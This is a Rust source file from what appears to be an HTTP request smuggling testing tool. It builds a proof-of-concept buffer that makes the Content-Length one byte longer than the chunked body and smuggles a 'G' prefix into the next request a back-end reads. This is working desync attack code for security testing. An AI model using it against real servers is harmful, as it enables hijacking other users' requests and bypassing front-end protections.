// File: poc.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2023-2025
// - Volker Schwaberow <volker@schwaberow.de>

use crate::error::{ProbeError, ProbeResult};
use crate::mutator::RequestMutator;
use crate::rawrequest::RawRequest;
use crate::service::ServiceEndpoint;
use crate::technique::Configuration;
use chrono::{DateTime, Utc};
use std::io::Write;

/// Start-line byte that the poisoned back-end glues onto the next request.
pub const SMUGGLED_PREFIX: &[u8] = b"G";

#[derive(Debug, Clone)]
pub struct Poc {
    pub bytes: Vec<u8>,
    pub service: ServiceEndpoint,
    pub created_at: DateTime<Utc>,
}

impl Poc {
    pub fn as_text(&self) -> String {
        String::from_utf8_lossy(&self.bytes).to_string()
    }
}

/// Builds one pipelined buffer: a keep-alive request whose Content-Length is one
/// byte longer than its chunked body, a single `G`, and the real request
/// chunk-encoded normally. A back-end honouring Content-Length swallows the `G`
/// and reads the next request as `GPOST ...`.
pub fn build_poc(
    mutator: &RequestMutator,
    request: &RawRequest,
    service: &ServiceEndpoint,
    config: &Configuration,
) -> ProbeResult<Poc> {
    let keepalive = request.set_header("Connection", "keep-alive");
    let poison = mutator.chunk_encode(&keepalive, 1, 0, config, false);
    let follow_up = mutator.chunk_encode(request, 0, 0, config, false);

    let mut buf = Vec::with_capacity(poison.len() + follow_up.len() + 1);
    buf.write_all(poison.as_bytes())
        .and_then(|_| buf.write_all(SMUGGLED_PREFIX))
        .and_then(|_| buf.write_all(follow_up.as_bytes()))
        .map_err(ProbeError::PocConstruction)?;

    Ok(Poc {
        bytes: buf,
        service: service.clone(),
        created_at: Utc::now(),
    })
}
